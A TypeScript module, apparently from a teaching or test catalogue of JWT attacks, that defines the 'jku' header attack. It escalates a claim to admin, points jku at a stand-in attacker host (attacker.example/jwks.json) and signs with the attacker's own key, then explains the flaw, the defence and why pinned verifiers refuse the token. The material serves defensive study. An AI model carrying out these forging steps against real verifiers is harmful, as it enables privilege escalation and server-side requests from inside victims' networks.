import { rfc } from '../../jwt/clause.ts';
import { withClaims, withHeader } from '../../service/tokens/parts.ts';
import { signWith } from '../../service/tokens/sign.ts';
import type { Attack } from '../attack.ts';

export const jku: Attack = {
  id: 'jku',
  name: 'A key set of the attacker’s',
  group: 'header',
  setting: 'own-server',
  precondition: 'The verifier fetches keys from the address that the header names.',
  needs: ['a-token', 'own-keys', 'own-server'],
  goal: 'Anybody with a web server signs as the issuer.',
  forge: async ({ honest, knows }) => {
    const claimed = withClaims(honest, { role: 'admin' });
    const pointed = withHeader(claimed, { kid: 'mine', jku: 'https://attacker.example/jwks.json' });
    return {
      moves: [
        { say: 'Change one claim: role becomes admin.', token: claimed },
        { say: 'Name a key set on your own server (jku), and a key in it.', token: pointed },
        { say: 'Sign with your key.', token: await signWith(pointed, 'RS256', knows.ownRsa) },
      ],
    };
  },
  explanation: [
    'jku tells where the keys are. It stands in the token, so it is the sender who says where to look for the proof that the sender is somebody else.',
    'The fetch happens before anything is verified, since it is for verifying. So even a refused token makes the server ask an address of the attacker’s choice, from inside the network.',
    'An encrypted connection helps against listeners. It does not make the attacker’s server the issuer’s.',
  ],
  defence:
    'Do not read jku. Configure one address per issuer; if it must be read, compare it as a whole with that address, and follow no redirect.',
  bcp: ['2.9', '3.10'],
  clauses: [rfc(7515, '4.1.2')],
  cves: [],
  sound: {
    pinned: {
      outcome: 'refuse',
      at: 'kid',
      because: 'No configured key is called mine, and nobody is asked for more.',
    },
    strict: {
      outcome: 'refuse',
      at: 'kid',
      because: 'No configured key is called mine, and nobody is asked for more.',
    },
  },
};
